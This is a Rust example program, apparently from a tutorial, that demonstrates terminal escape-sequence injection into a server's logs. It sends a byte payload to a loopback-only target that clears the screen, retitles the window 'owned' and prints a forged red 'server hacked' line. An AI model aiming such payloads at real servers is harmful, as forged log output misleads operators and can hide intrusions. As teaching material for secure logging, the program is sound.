//! 攻击：把终端控制序列送进服务器的日志。服务器把收到的字节原样打印到运维人员的终端上，
//! 终端就会执行其中的控制序列：清屏、改窗口标题、换颜色、伪造一行日志。
//!
//! 运行：先启动一个服务器，再 `cargo run --example attack_escape -- 127.0.0.1:3214`。
//! 只能攻击本机回环地址上的服务器。控制序列本身无害（只影响显示），但会弄乱服务器的终端：
//! 之后按 Ctrl-L 或输入 `reset` 恢复。

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

use anyhow::{Context, Result, bail};

const DEFAULT_ADDR: &str = "127.0.0.1:3214";

const USAGE: &str = "用法：attack_escape [地址]
把终端控制序列送进服务器的日志：发一行含 ESC 的字节，读回显，然后关闭连接。
  地址   目标服务器，默认 127.0.0.1:3214；只能是 127.0.0.0/8 或 [::1]";

// ANCHOR: payload
/// 一行里的四个控制序列：ESC [2J 清屏、ESC [H 光标回到左上角、ESC ]0;…BEL 改终端窗口的标题、
/// ESC [31m 换成红字（ESC [0m 换回来）。最后是换行符：按行读的服务器也会收下它。
const PAYLOAD: &[u8] = b"hello\x1b[2J\x1b[H\x1b]0;owned\x07\x1b[31mserver hacked\x1b[0m\n";
// ANCHOR_END: payload

/// 像 `println!` 一样打印一行；标准输出被关闭时返回错误 `StdoutClosed`，而不是 panic。
macro_rules! say {
    ($($arg:tt)*) => {
        writeln!(std::io::stdout(), $($arg)*).map_err(|_| StdoutClosed)
    };
}

fn main() {
    match run() {
        Ok(()) => {}
        Err(err) if err.is::<StdoutClosed>() => {}
        Err(err) => {
            eprintln!("错误：{err:#}");
            std::process::exit(1);
        }
    }
}

// ANCHOR: run
fn run() -> Result<()> {
    let Some(target) = parse_args()? else {
        say!("{USAGE}")?;
        return Ok(());
    };
    let mut stream = TcpStream::connect_timeout(&target, Duration::from_secs(2))
        .with_context(|| format!("连接 {target} 失败"))?;
    stream.set_read_timeout(Some(Duration::from_secs(2)))?;
    stream.set_write_timeout(Some(Duration::from_secs(2)))?;
    stream.write_all(PAYLOAD).context("发送失败")?;
    // 我们自己也不把这些字节原样打印：escape_ascii 把 ESC 写成 \x1b，BEL 写成 \x07。
    say!("发出 {} 字节：{}", PAYLOAD.len(), PAYLOAD.escape_ascii())?;
    let mut echo = vec![0u8; PAYLOAD.len()];
    match stream.read_exact(&mut echo) {
        Ok(()) => say!("收到了原样的回显；去看服务器的终端")?,
        Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
            say!("2 秒内没有收全回显；去看服务器的终端")?
        }
        Err(_) => say!("服务器关闭了连接；去看服务器的终端")?,
    }
    Ok(())
}
// ANCHOR_END: run

/// 只攻击本机：目标必须是回环地址（127.0.0.0/8 或 ::1），别的一律拒绝。
fn loopback_only(text: &str) -> Result<SocketAddr> {
    let addr: SocketAddr = text.parse().with_context(|| {
        format!("无法解析地址 `{text}`：写成 IP:端口，例如 127.0.0.1:3214（不接受主机名）")
    })?;
    if !addr.ip().is_loopback() {
        bail!(
            "拒绝攻击 {addr}：攻击程序只能对准本机回环地址（127.0.0.0/8 或 [::1]）上你自己的服务器"
        );
    }
    Ok(addr)
}

/// 标准输出已被关闭：读输出的程序已经退出。
#[derive(Debug)]
struct StdoutClosed;

impl std::fmt::Display for StdoutClosed {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("标准输出已被关闭")
    }
}

impl std::error::Error for StdoutClosed {}

/// 读取命令行：可选的目标地址。`-h` / `--help` 时返回 None。
fn parse_args() -> Result<Option<SocketAddr>> {
    let mut target = None;
    for arg in std::env::args().skip(1) {
        match arg.as_str() {
            "-h" | "--help" => return Ok(None),
            _ if arg.starts_with('-') => bail!("不认识的选项 {arg}：用 --help 查看用法"),
            _ if target.is_some() => bail!("参数太多：只能给一个地址，例如 127.0.0.1:3214"),
            _ => target = Some(arg),
        }
    }
    Ok(Some(loopback_only(
        target.as_deref().unwrap_or(DEFAULT_ADDR),
    )?))
}
